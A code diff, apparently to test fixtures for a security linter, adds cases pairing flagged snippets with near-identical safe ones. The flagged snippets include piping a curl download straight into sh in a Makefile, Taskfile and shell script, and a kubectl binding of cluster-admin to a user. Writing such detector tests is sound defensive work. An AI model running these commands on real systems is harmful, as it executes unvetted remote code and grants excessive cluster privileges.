@@ -1,4 +1,4 @@
-// Objects and settings of others: what is bad in them, and beside it what is nearly the same and good.
+// Scripts, and objects and settings of others: what is bad in them, and beside it what is nearly the same and good.
 
 /** The name of the rule, what is bad and where it is told; each has beside it what is nearly the same and good. */
 export type Case = readonly [rule: string, path: string, bad: string, told: string, good: string];
@@ -188,5 +188,36 @@ export const objects: readonly Case[] = [
     '{\n  // a\n  "runArgs": ["--privileged"],\n}\n',
     'medium .devcontainer/devcontainer.json:3',
     '{"runArgs": ["--init"]}\n',
+  ],
+];
+
+export const scripts: readonly Case[] = [
+  [
+    'no-unverified-download',
+    'Makefile',
+    'a:\n\t@curl https://a.example | sh\n',
+    'medium Makefile:2',
+    'a:\n\t# curl https://a.example | sh\n\tcurl -o a https://a.example\n',
+  ],
+  [
+    'no-unverified-download',
+    'Taskfile.yml',
+    'tasks:\n  a:\n    cmds: ["curl https://a.example | sh"]\n',
+    'medium Taskfile.yml:3',
+    'tasks:\n  a:\n    desc: curl https://a.example | sh\n',
+  ],
+  [
+    'no-unverified-download',
+    'hack/a.sh',
+    'curl https://a.example | sh\n',
+    'medium hack/a.sh:1',
+    'curl https://a.example | tar x\n',
+  ],
+  [
+    'no-admin-binding',
+    'install.sh',
+    'kubectl create clusterrolebinding a --clusterrole=cluster-admin --user=b\n',
+    'high install.sh:1',
+    'kubectl create clusterrolebinding a --clusterrole=a --user=cluster-admin\n',
   ],
 ];
